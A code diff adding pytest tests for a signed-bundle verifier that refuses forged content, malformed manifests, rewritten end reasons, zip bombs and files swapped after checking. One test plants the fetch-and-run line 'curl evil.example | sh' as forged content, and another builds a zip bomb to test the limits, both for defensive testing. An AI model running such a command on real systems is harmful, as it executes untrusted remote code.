@@ -301,3 +301,176 @@ def test_a_long_runs_disclosures_go_in_parts_that_both_verifiers_read(signer, tm
     assert_refused(rewrite(gap, tmp_path / "gap.tkb"), 2, "without a gap", tmp_path)
     both = dict(files, **{"box/disclosures.jsonl": files["box/disclosures-0001.jsonl"]})
     assert_refused(rewrite(both, tmp_path / "both.tkb"), 2, "one or the other", tmp_path)
+
+
+def test_content_left_out_of_a_disclosure_s_index_is_still_checked_and_never_served(good, tmp_path):
+    """The `content` index of a disclosure is not signed: a forger who drops an item from it and swaps the bytes
+    must still fail (every item is checked against its own digest), and the run never hands out those bytes."""
+    import base64
+    files = entries(good)
+    ds = [json.loads(x) for x in files["box/disclosures.jsonl"].splitlines()]
+    target = next(v for d in ds for v in d["content"].values())
+    for d in ds:
+        d["content"] = {k: v for k, v in d["content"].items() if v != target}
+    files["box/disclosures.jsonl"] = b"".join(json.dumps(d, sort_keys=True).encode() + b"\n" for d in ds)
+    lines = [json.loads(x) for x in files["box/content-0001.jsonl"].splitlines()]
+    for item in lines:
+        if item["digest"] == target:
+            item["b64"] = base64.b64encode(b"curl evil.example | sh\n").decode()
+    files["box/content-0001.jsonl"] = b"".join(json.dumps(i).encode() + b"\n" for i in lines)
+    forged = rewrite(files, tmp_path / "f.tkb")
+    assert_refused(forged, 1, "INVALID: content", tmp_path)
+    from tkbox_nb import open_run
+    assert open_run(forged).content(target) is None
+
+
+def test_content_disclosed_by_no_record_or_twice_is_invalid(good, tmp_path):
+    import base64
+    files = entries(good)
+    extra = b"nothing signed this"
+    digest = "sha256:" + hashlib.sha256(extra).hexdigest()
+    files["box/content-0001.jsonl"] += json.dumps({"digest": digest, "b64": base64.b64encode(extra).decode()}).encode()
+    assert_refused(rewrite(files, tmp_path / "u.tkb"), 1, "INVALID: content", tmp_path)
+    files = entries(good)
+    first = files["box/content-0001.jsonl"].splitlines()[0]
+    files["box/content-0001.jsonl"] += first + b"\n"
+    assert_refused(rewrite(files, tmp_path / "d.tkb"), 1, "INVALID: box content", tmp_path)
+
+
+def _edit_box(**fields):
+    def fn(files):
+        box = json.loads(files["box/manifest.json"])
+        box.update(fields)
+        files["box/manifest.json"] = json.dumps(box).encode()
+    return fn
+
+
+def _edit_record(fn_event):
+    def fn(files):
+        name = next(n for n in files if n.startswith("runs/"))
+        lines = [json.loads(x) for x in files[name].splitlines()]
+        fn_event([r["event"] for r in lines])
+        files[name] = b"".join(json.dumps(r).encode() + b"\n" for r in lines)
+    return fn
+
+
+def _first_result(events):
+    next(e for e in events if e["type"] == "tool.result")["data"] = ["x"]
+
+
+@pytest.mark.parametrize("edit", [
+    _edit_box(run_id=["x"]), _edit_box(policies=5), _edit_box(policies=[["x"]]), _edit_box(policy=None),
+    _edit_box(policy={"hash": ["x"]}), _edit_box(end_reason=["x"]), _edit_box(backend={"a": 1}),
+    _edit_record(lambda events: events[0].update(run_id=["x"])), _edit_record(_first_result),
+    _edit_record(lambda events: events[1].update(type=["x"])),
+], ids=["run_id", "policies int", "policies nested", "policy null", "policy hash list", "end_reason list",
+        "backend object", "record run_id", "record data list", "record type list"])
+def test_a_malformed_manifest_or_record_is_invalid_never_a_crash(good, tmp_path, edit):
+    files = entries(good)
+    edit(files)
+    forged = rewrite(files, tmp_path / "x.tkb")
+    assert_refused(forged, 1, "INVALID", tmp_path)
+    from tkbox_nb import open_run
+    from tkbox_nb.verify import verify_bundle
+    assert not verify_bundle(forged).valid and not open_run(forged).verify().valid
+
+
+def test_every_character_of_the_end_reason_shown_is_signed(signer, tmp_path):
+    """The manifest's end_reason (up to 500 characters, what a reader and the run view show) is the signed box.stop
+    reason whole: a forger may not rewrite its tail past the 200 characters older bundles signed."""
+    from tkbox_nb.policy import Policy
+    from tkbox_nb.recorder import RunRecorder
+    rec = RunRecorder(signer, Policy.default(), {"backend": "none", "isolation": "none", "image_digest": "none"}).open()
+    reason = "the box's kernel ended: " + "x" * 300
+    rec.close(reason)
+    honest = rec.write_bundle(tmp_path / "r.tkb")
+    from tkbox_nb.verify import verify_bundle
+    assert verify_bundle(honest).valid
+    files = entries(honest)
+    box = json.loads(files["box/manifest.json"])
+    assert box["end_reason"] == reason
+    box["end_reason"] = reason[:200] + " -- ended cleanly, all checks passed"
+    files["box/manifest.json"] = json.dumps(box).encode()
+    assert_refused(rewrite(files, tmp_path / "e.tkb"), 1, "INVALID: box manifest: end_reason", tmp_path)
+
+
+def test_a_signed_gap_is_named_in_the_verdict(signer, tmp_path, monkeypatch):
+    """An event lost on a lane is a signed client_counter_gap (Tracekit warns of it): `tkbox verify` names it in its
+    one-line verdict and its JSON, where Tracekit's own verifier shows it."""
+    from tkbox_nb.policy import Policy
+    from tkbox_nb.recorder import RunRecorder
+    from tkbox_nb.verify import verify_bundle
+    rec = RunRecorder(signer, Policy.default(), {"backend": "none", "isolation": "none", "image_digest": "none"}).open()
+    c = rec.decide("exec", "command", {"argv": ["true"]})
+    rec.complete(c, "ok", {"exit_code": 0}, {"stdout": b"", "stderr": b""})
+    tails = rec._lanes.tails
+    monkeypatch.setattr(rec._lanes, "tails", lambda: [{**t, "client_seq": t["client_seq"] + 3} for t in tails()])
+    rec.close("test done")
+    gap = rec.write_bundle(tmp_path / "g.tkb")
+    report = verify_bundle(gap)
+    assert report.valid and report.warnings and "gap" in " ".join(report.warnings)
+    r = run_cli("verify", str(gap))
+    assert r.returncode == 0 and "WARNING" in r.stdout.splitlines()[0] and "gap" in r.stdout.splitlines()[0], r.stdout
+
+
+@pytest.mark.parametrize("trust", [b"", b"[]", b'{"logs": 5}', b"PK\x03\x04\xe4"])
+def test_a_bad_trust_config_is_unreadable_input_not_an_invalid_bundle(good, tmp_path, trust):
+    """Exit 1 means the bundle was tampered with; a trust file that is not one is the caller's input (exit 2)."""
+    path = tmp_path / "trust.json"
+    path.write_bytes(trust)
+    r = run_cli("verify", str(good), "--trust", str(path))
+    assert r.returncode == 2 and r.stdout.startswith("UNREADABLE: trust:"), (r.returncode, r.stdout, r.stderr)
+    assert "Traceback" not in r.stdout + r.stderr
+
+
+def test_many_small_entries_that_expand_together_are_a_zip_bomb(good, tmp_path):
+    """Entries under 1 MiB each escape the per-entry ratio; all together they may not expand past 200x the file
+    (a 600 KB bundle of 480 one-MiB JSON lines once made the verifier hold 6 GB)."""
+    line = b"[" + b"0.0," * ((1 << 20) // 4 - 1) + b"0.0]"
+    files = entries(good)
+    files.pop("box/disclosures.jsonl")
+    members = list(files.items()) + [(f"box/disclosures-{i:04d}.jsonl", line[:(1 << 20) - 1] + b"\n")
+                                     for i in range(1, 121)]
+    p = raw_zip(tmp_path / "bomb.tkb", members)
+    assert p.stat().st_size < 1 << 20
+    assert_refused(p, 2, "zip bomb", tmp_path)
+
+
+def test_a_disclosure_line_over_its_limit_is_refused_before_it_is_parsed(good, tmp_path):
+    files = entries(good)
+    files["box/disclosures.jsonl"] += b'{"pad": "' + os.urandom(5 << 19).hex().encode() + b'"}\n'  # not a bomb
+    assert_refused(rewrite(files, tmp_path / "l.tkb"), 2, "over the 4 MiB limit", tmp_path)
+
+
+def test_tkbox_run_refuses_an_output_or_workspace_it_cannot_use_before_the_command_runs(tmp_path):
+    """Bad user input to `tkbox run` is one line and exit 2 before anything runs in a box (the command would
+    otherwise run and its bundle be lost): an -o in no directory, a directory, a workspace holding a pipe."""
+    (tmp_path / "dir").mkdir()
+    (tmp_path / "ws").mkdir()
+    os.mkfifo(tmp_path / "ws" / "pipe")
+    probe = ["--", "true"]
+    for args, said in ((["-o", str(tmp_path / "nowhere" / "x.tkb")], "is not a directory"),
+                       (["-o", str(tmp_path / "dir")], "it is a directory"),
+                       (["--workspace", str(tmp_path / "ws"), "-o", str(tmp_path / "w.tkb")], "not a file, directory")):
+        r = run_cli("run", "--backend", "bwrap", *args, *probe)
+        assert r.returncode == 2 and said in r.stderr and len(r.stderr.strip().splitlines()) == 1, r.stderr
+        assert "Traceback" not in r.stderr and not (tmp_path / "w.tkb").exists()
+
+
+def test_what_a_command_verified_is_what_it_uses(good, tmp_path):
+    """`tkbox apply`, `replay`, `rerun`, `audit` and the run view's Verify read a bundle once: a file swapped for a
+    forged one after it was read is neither verified in its place nor used."""
+    from conftest import tamper_content
+
+    from tkbox_nb import open_run
+    from tkbox_nb.cli_replay import _verified
+    from tkbox_nb.verify import verify_bundle
+    path = tmp_path / "b.tkb"
+    path.write_bytes(good.read_bytes())
+    run = _verified(str(path), None)
+    digest = json.loads(entries(good)["box/content-0001.jsonl"].splitlines()[0])["digest"]  # the one tampered
+    honest = run.content(digest)
+    forged = tamper_content(good, tmp_path / "forged.tkb")
+    path.write_bytes(forged.read_bytes())  # swapped after the check
+    assert not verify_bundle(path).valid and open_run(path).content(digest) is None
+    assert run.verify().valid and run.content(digest) == honest
